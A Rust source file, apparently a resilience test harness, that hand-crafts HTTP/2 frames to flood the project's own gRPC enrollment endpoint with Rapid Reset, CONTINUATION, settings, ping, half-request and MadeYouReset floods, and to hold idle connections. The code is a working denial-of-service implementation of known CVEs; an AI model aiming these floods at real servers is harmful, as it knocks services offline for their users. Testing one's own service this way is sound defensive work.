//! HTTP/2 by hand, over TLS without a certificate: floods that no client library sends.

use std::{net::SocketAddr, sync::Arc, time::Duration};

use anyhow::{Context, Result};
use dataplane_identity::{
    CaFingerprint,
    tls::{control_plane_name, pinned_client_config},
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};
use tokio_rustls::{TlsConnector, client::TlsStream};

use crate::held::connect;

/// What is sent, over and over.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// A request, and its reset at once (CVE-2023-44487).
    RapidReset,
    /// A header list that never ends (RUSTSEC-2024-0332).
    Continuation,
    /// Settings, each of which is to be acknowledged.
    Settings,
    /// Pings, each of which is to be answered.
    Pings,
    /// Requests that are begun, and whose bodies never come.
    HalfRequests,
    /// Window updates that make the server reset its own streams (CVE-2025-8671).
    MadeReset,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 6] =
        [Self::RapidReset, Self::Continuation, Self::Settings, Self::Pings, Self::HalfRequests, Self::MadeReset];
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// POST /dwcp.agent.v1.AgentService/Enroll, in HPACK without a table.
fn request_head() -> Vec<u8> {
    let path = b"/dwcp.agent.v1.AgentService/Enroll";
    let kind = b"application/grpc";
    let mut head = vec![0x83, 0x87, 0x04, u8::try_from(path.len()).unwrap_or(0)];
    head.extend(path);
    head.extend([0x01, 9]);
    head.extend(b"localhost");
    head.extend([0x0f, 0x10, u8::try_from(kind.len()).unwrap_or(0)]);
    head.extend(kind);
    head
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Floods one connection until it is closed or `frames` were sent. How many were, and whether the server closed it.
///
/// # Errors
/// There is no connection.
pub async fn flood(target: SocketAddr, ca: CaFingerprint, flood: Flood, frames: u32) -> Result<(u32, bool)> {
    let mut stream = tls(target, ca, 7).await?;
    stream.write_all(PREFACE).await?;
    let head = request_head();
    let mut sent = 0;
    let mut number = 1_u32;
    while sent < frames {
        let mut batch = Vec::new();
        if flood == Flood::Continuation && sent == 0 {
            batch.extend(frame(1, 0, 1, &head));
        }
        for _ in 0..100 {
            match flood {
                Flood::RapidReset => {
                    batch.extend(frame(1, 4, number, &head));
                    batch.extend(frame(3, 0, number, &8_u32.to_be_bytes()));
                }
                Flood::Continuation => {
                    batch.extend(frame(9, 0, 1, &[&[0x00, 1, b'x', 100][..], &[b'a'; 100]].concat()))
                }
                Flood::Settings => batch.extend(frame(4, 0, 0, &[])),
                Flood::Pings => batch.extend(frame(6, 0, 0, &[7; 8])),
                Flood::HalfRequests => batch.extend(frame(1, 4, number, &head)),
                Flood::MadeReset => {
                    batch.extend(frame(1, 4, number, &head));
                    batch.extend(frame(8, 0, number, &0_u32.to_be_bytes()));
                }
            }
            number += 2;
            sent += 1;
        }
        if timeout(Duration::from_secs(5), stream.write_all(&batch)).await.map_or(true, |written| written.is_err()) {
            return Ok((sent, true));
        }
    }
    let mut buffer = vec![0; 64 * 1024];
    let rest = async { while let Ok(1..) = stream.read(&mut buffer).await {} };
    Ok((sent, timeout(Duration::from_secs(5), rest).await.is_ok()))
}

/// Stands after a whole handshake and says no more; how long it is kept, at most `patience`.
///
/// # Errors
/// There is no connection.
pub async fn idle(
    target: SocketAddr,
    ca: CaFingerprint,
    preface: bool,
    patience: Duration,
) -> Result<Option<Duration>> {
    let mut stream = tls(target, ca, 8).await?;
    if preface {
        stream.write_all(PREFACE).await?;
    }
    let begun = std::time::Instant::now();
    let mut buffer = [0; 4096];
    let kept = async {
        loop {
            match stream.read(&mut buffer).await {
                Ok(read @ 1..) => {
                    // Settings and pings are answered, so that only the server's own bound ends it.
                    let mut rest = &buffer[..read];
                    while rest.len() >= 9 {
                        let length = usize::from(rest[0]) << 16 | usize::from(rest[1]) << 8 | usize::from(rest[2]);
                        let payload = rest.get(9..9 + length).unwrap_or_default().to_vec();
                        let answer = match (rest[3], rest[4]) {
                            (4, 0) => frame(4, 1, 0, &[]),
                            (6, 0) => frame(6, 1, 0, &payload),
                            _ => Vec::new(),
                        };
                        if stream.write_all(&answer).await.is_err() {
                            return;
                        }
                        rest = rest.get(9 + length..).unwrap_or_default();
                    }
                }
                Ok(0) | Err(_) => return,
            }
        }
    };
    Ok(timeout(patience, kept).await.ok().map(|()| begun.elapsed()))
}

async fn tls(target: SocketAddr, ca: CaFingerprint, address: u32) -> Result<TlsStream<TcpStream>> {
    let tcp = connect(target, address).await.context("no connection")?;
    let connector = TlsConnector::from(Arc::new(pinned_client_config(ca)?));
    timeout(Duration::from_secs(20), connector.connect(control_plane_name(), tcp)).await?.context("TLS")
}
